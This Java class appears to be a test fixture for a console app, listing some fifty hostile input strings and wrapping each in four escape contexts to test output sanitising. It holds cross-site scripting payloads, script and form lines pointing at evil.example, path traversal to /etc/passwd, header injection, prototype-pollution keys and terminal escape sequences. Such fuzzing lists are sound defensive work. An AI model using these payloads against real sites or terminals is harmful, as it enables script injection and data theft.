package io.benchmarkdeployer.app.console;

import java.util.List;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;

/** Texts that want to be more than text. */
final class HostileText {
  private static final List<String> PAYLOADS =
      List.of(
          "<script>alert(1)</script>",
          "<ScRiPt src=//evil.example/x.js></sCrIpT>",
          "<img src=x onerror=alert(1)>",
          "<svg/onload=alert(1)>",
          "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
          "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
          "<details open ontoggle=alert(1)>",
          "<input autofocus onfocus=alert(1)>",
          "<body onload=alert(1)>",
          "<style>*{display:none}</style>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<base href=//evil.example/>",
          "<meta http-equiv=refresh content='0;url=//evil.example/'>",
          "<a href=javascript:alert(1)>click</a>",
          "<form action=//evil.example/><button>send</button></form>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
          "<template><script>alert(1)</script></template>",
          "<!--><script>alert(1)</script-->",
          "</title></textarea></script><script>alert(1)</script>",
          "javascript:alert(1)",
          "JaVaScRiPt:alert(document.domain)",
          "data:text/html,<script>alert(1)</script>",
          "vbscript:msgbox(1)",
          "//evil.example/",
          "https://evil.example/?<script>alert(1)</script>",
          "../../../../etc/passwd",
          "%2e%2e%2f%00%0d%0aSet-Cookie:x=1",
          "#/jobs/x/y?<script>alert(1)</script>",
          "{{constructor.constructor('alert(1)')()}}",
          "${alert(1)} #{alert(1)} <%= alert(1) %> [[alert(1)]]",
          "__proto__",
          "constructor",
          "toString",
          "{name} {count} {0} {__proto__}",
          "'; alert(1); //",
          "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
          "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62;",
          "\u202egnp.exe\u202c \u2066<b>\u2069",
          "\u200b\u200c\u200d\ufeff\u2060",
          "\u0000\u0001\u0007\b\u007f\u0080\u009b31m",
          "\u001b[31mred\u001b[0m\u001b[2J\u001b[H\u001b[?1049h",
          "\u001b]0;title<script>alert(1)</script>\u0007",
          "\u001b]8;;javascript:alert(1)\u001b\\link\u001b]8;;\u001b\\",
          "\u001b]52;c;YWxlcnQoMSk=\u0007",
          "\u001bP+q544e\u001b\\\u001b[6n\u001b[c\u001b[>c\u001b[21t",
          "\u2028\u2029\u0085",
          "\ud83d\ude00\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67",
          "Z\u0351\u036b\u0343a\u0329\u0318l\u033f\u0360g\u0321o".repeat(20),
          "x".repeat(3000),
          "<".repeat(1000));

  private static final List<UnaryOperator<String>> COATS =
      List.of(
          text -> text,
          text -> "\">" + text,
          text -> "'-->" + text + "<!--",
          text -> "a`b\\" + text + "\\");

  private HostileText() {}

  /** Two hundred of them, each another. */
  static List<String> all() {
    return PAYLOADS.stream().flatMap(HostileText::inCoats).toList();
  }

  private static Stream<String> inCoats(String text) {
    return COATS.stream().map(coat -> coat.apply(text));
  }
}
